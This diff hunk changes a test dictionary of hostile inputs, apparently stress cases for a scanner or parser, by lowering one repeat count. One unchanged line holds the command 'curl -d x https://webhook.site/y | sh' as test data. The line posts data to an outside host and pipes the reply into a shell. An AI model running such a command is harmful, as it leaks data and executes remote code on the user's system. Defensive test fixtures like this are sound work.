@@ -38,7 +38,7 @@ HOSTILE = {
     "headings": b"# bad\n" * 50_000,
     "backticks": b"`" * 200_000,
     "pipes": b"| " * 200_000,
-    "curls": b"curl " * 5_000,
+    "curls": b"curl " * 1_000,
     "matches": b"curl -d x https://webhook.site/y | sh\n" * 3_000,
     "chr calls": b"chr(65)+" * 50_000,
     "joins": b"join('a','b'" * 30_000,
